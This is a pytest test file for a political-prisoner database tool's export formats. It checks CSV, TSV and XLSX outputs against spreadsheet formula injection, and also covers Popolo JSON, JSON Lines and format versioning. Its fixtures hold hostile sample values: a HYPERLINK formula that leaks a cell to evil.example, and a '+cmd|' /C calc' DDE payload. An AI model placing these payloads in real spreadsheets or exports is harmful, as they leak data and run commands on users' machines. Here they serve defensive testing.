"""Spreadsheet-safe CSV/TSV/XLSX, `--excel`, Popolo JSON, streamed JSON Lines, and versioned JSON exports."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pp_cli.export import FORMAT_VERSION

DOCS = Path(__file__).resolve().parent.parent / "docs" / "exports.md"
ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def hostile(kb):
    """People and events whose text a spreadsheet would run as formulas."""
    kb.org("nida", "N!DA")
    kb.prisoner("ilqar-mammadov", "Ilqar Məmmədov", native_name='"İlqar Məmmədov"', roles="[opposition_politician]",
                affiliations="[{org: nida, position: chairman, since: '2012'}]",
                summary=json.dumps(ATTACK), other_names='["+cmd|\' /C calc\'!A0", "-2+3", "@SUM(A1:A9)"]')
    kb.prisoner("rasul-jafarov", "Rasul Jafarov", born='"1984"', gender="male")
    kb.event("2013-02-04-arrest", "2013-02-04", "arrest", ["ilqar-mammadov"], title=json.dumps("=1+1 arrest"),
             charges="[{article: '233', description: '=cmd organising mass disorder', category: public_order},"
                     " {article: '315.2', description: resisting police, category: public_order}]")
    kb.event("2014-08-02-arrest", "2014-08-02", "arrest", ["rasul-jafarov"])
    return kb


def out(run, target, *args: str) -> str:
    result = run(target, *args)
    assert result.exit_code == 0, result.output
    return result.stdout


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("args", [
    ("export", "--format", "csv"),
    ("export", "--format", "csv", "--events"),
    ("export", "--format", "csv", "--excel"),
    ("list", "--format", "csv"),
    ("list", "--format", "tsv"),
])
def test_no_cell_of_a_csv_or_tsv_output_begins_like_a_formula(run, hostile, args):
    text = out(run, hostile, *args).lstrip("\ufeff")
    found = cells(text, "\t" if "tsv" in args else ",")
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if "--events" in args:
        assert "'=1+1 arrest" in found and "'=cmd organising mass disorder" not in found  # joined with the article
    elif args[0] == "export":
        assert "'" + ATTACK in found  # the text is kept, only made inert
        assert "'+cmd|' /C calc'!A0; -2+3; @SUM(A1:A9)" in found  # a list cell starting with + is neutralised


def test_xlsx_holds_formula_text_as_text_never_as_a_formula(run, hostile, tmp_path):
    path = tmp_path / "list.xlsx"
    assert run(hostile, "export", "--format", "xlsx", "--output", str(path)).exit_code == 0
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    workbook = openpyxl.load_workbook(path)
    people = workbook["people"]
    header = [c.value for c in people[1]]
    row = {header[i]: c for i, c in enumerate(people[2])}
    assert row["name"].value == "Ilqar Məmmədov"
    assert row["summary"].value == ATTACK and row["summary"].data_type == "s" and row["summary"].quotePrefix
    assert not row["name"].quotePrefix


# --------------------------------------------------------------------------- CSV for Excel


def test_excel_csv_has_a_byte_order_mark_and_crlf_and_keeps_the_letters(run, hostile, tmp_path):
    path = tmp_path / "people.csv"
    assert run(hostile, "export", "--format", "csv", "--excel", "--output", str(path)).exit_code == 0
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 3  # header and two people; no bare LF
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["name"] == "Ilqar Məmmədov" and rows[0]["native_name"] == "İlqar Məmmədov"
    plain = out(run, hostile, "export", "--format", "csv")
    assert not plain.startswith("\ufeff") and "\r\n" not in plain


def test_excel_is_for_csv_only(run, hostile):
    result = run(hostile, "export", "--format", "json", "--excel")
    assert result.exit_code == 2 and "--excel applies to --format csv only" in result.stderr


def test_list_and_export_name_the_same_columns_and_agree_on_their_values(run, shipped):
    listed = list(csv.DictReader(io.StringIO(out(run, shipped, "list", "--format", "csv"))))
    exported = {r["id"]: r for r in csv.DictReader(io.StringIO(out(run, shipped, "export", "--format", "csv")))}
    assert listed and set(listed[0]) <= set(next(iter(exported.values())))
    for row in listed:
        assert {k: exported[row["id"]][k] for k in row} == row


# --------------------------------------------------------------------------- XLSX


def test_xlsx_has_people_events_and_charges_sheets_matching_the_csv(run, hostile, tmp_path):
    path = tmp_path / "list.xlsx"
    assert run(hostile, "export", "--format", "xlsx", "--output", str(path)).exit_code == 0
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["people", "events", "charges", "about"]

    def table(name: str) -> list[dict]:
        rows = list(book[name].iter_rows(values_only=True))
        width = len(rows[0])  # empty cells at the end of a row are not stored
        return [dict(zip(rows[0], r + (None,) * (width - len(r)), strict=True)) for r in rows[1:]]

    people = table("people")
    from_csv = list(csv.DictReader(io.StringIO(out(run, hostile, "export", "--format", "csv"))))
    assert [p["id"] for p in people] == [r["id"] for r in from_csv] == ["ilqar-mammadov", "rasul-jafarov"]
    assert people[1]["born"] == "1984" and people[1]["status"] == "detained" and people[1]["as_of"] == "2014-08-02"
    events = table("events")
    assert [e["id"] for e in events] == ["2013-02-04-arrest", "2014-08-02-arrest"]
    assert events[0]["count_approximate"] is False  # typed, not the text "false"
    charges = table("charges")
    assert [(c["event"], c["article"], c["category"]) for c in charges] == [
        ("2013-02-04-arrest", "233", "public_order"), ("2013-02-04-arrest", "315.2", "public_order")]
    assert charges[0]["people_names"] == "Ilqar Məmmədov"
    about = {r["key"]: r["value"] for r in table("about")}
    assert about["format_version"] == FORMAT_VERSION and about["prisoners"] == 2


def test_xlsx_needs_an_output_file(run, hostile):
    result = run(hostile, "export", "--format", "xlsx")
    assert result.exit_code == 2 and "--output" in result.stderr


def test_xlsx_escapes_characters_xml_cannot_hold(run, kb, tmp_path):
    kb.prisoner("x", "Bad \\x07 Name")
    path = tmp_path / "x.xlsx"
    assert run(kb, "export", "--format", "xlsx", "--output", str(path)).exit_code == 0
    assert openpyxl.load_workbook(path)["people"]["B2"].value == "Bad \\x07 Name"


# --------------------------------------------------------------------------- Popolo


def test_popolo_has_persons_organizations_and_memberships(run, hostile):
    doc = json.loads(out(run, hostile, "export", "--format", "popolo"))
    assert set(doc) == {"meta", "persons", "organizations", "memberships"}
    persons = {p["id"]: p for p in doc["persons"]}
    ilqar = persons["ilqar-mammadov"]
    assert ilqar["name"] == "Ilqar Məmmədov"
    assert {"name": "İlqar Məmmədov", "note": "native name"} in ilqar["other_names"]
    assert ilqar["sources"] == [{"url": "https://example.org/report", "note": "A report"}]
    assert ilqar["political_prisoner"]["status"] == "detained"
    assert persons["rasul-jafarov"]["birth_date"] == "1984" and persons["rasul-jafarov"]["gender"] == "male"
    assert doc["organizations"] == [{"id": "nida", "name": "N!DA", "classification": "movement",
                                     "sources": [{"url": "https://example.org/report", "note": "A report"}]}]
    assert doc["memberships"] == [{"id": "ilqar-mammadov--nida--1", "person_id": "ilqar-mammadov",
                                   "organization_id": "nida", "role": "chairman", "start_date": "2012"}]
    assert doc["meta"]["format"] == "pp-popolo" and doc["meta"]["format_version"] == FORMAT_VERSION


def test_popolo_dates_are_only_what_popolo_allows(run, shipped):
    doc = json.loads(out(run, shipped, "export", "--format", "popolo"))
    dates = [v for p in doc["persons"] for k, v in p.items() if k.endswith("_date")]
    dates += [v for m in doc["memberships"] for k, v in m.items() if k.endswith("_date")]
    assert all(re.fullmatch(r"\d{4}(-\d{2}){0,2}", d) for d in dates)
    member_orgs = {m["organization_id"] for m in doc["memberships"]}
    assert member_orgs <= {o["id"] for o in doc["organizations"]}


# --------------------------------------------------------------------------- JSON Lines and versions


def test_jsonl_is_written_a_line_at_a_time(shipped):
    from pp_cli.export import build
    from pp_cli.export.jsonl_export import render, stream
    from pp_cli.kb import load

    bundle = build(load(shipped, use_cache=False))

    class Counting:
        writes: list[str] = []

        def write(self, text: str) -> None:
            self.writes.append(text)

    sink = Counting()
    stream(bundle, sink)
    assert len(sink.writes) > 20 and all(w.count("\n") == 1 and w.endswith("\n") for w in sink.writes)
    assert "".join(sink.writes) == render(bundle)


@pytest.mark.parametrize("fmt", ["json", "jsonl", "popolo"])
def test_json_exports_carry_their_format_version(run, hostile, fmt):
    text = out(run, hostile, "export", "--format", fmt)
    meta = json.loads(text.splitlines()[0]) if fmt == "jsonl" else json.loads(text)["meta"]
    assert meta["format_version"] == FORMAT_VERSION
    assert meta["format"] == ("pp-popolo" if fmt == "popolo" else "pp-export")


def test_the_export_format_is_documented_at_its_current_version():
    text = DOCS.read_text(encoding="utf-8")
    assert f"format_version` is {FORMAT_VERSION}" in text
    for key in ("meta", "prisoners", "events", "organizations", "sources", "derived", "kind", "persons",
                "memberships", "political_prisoner"):
        assert f"`{key}`" in text, key
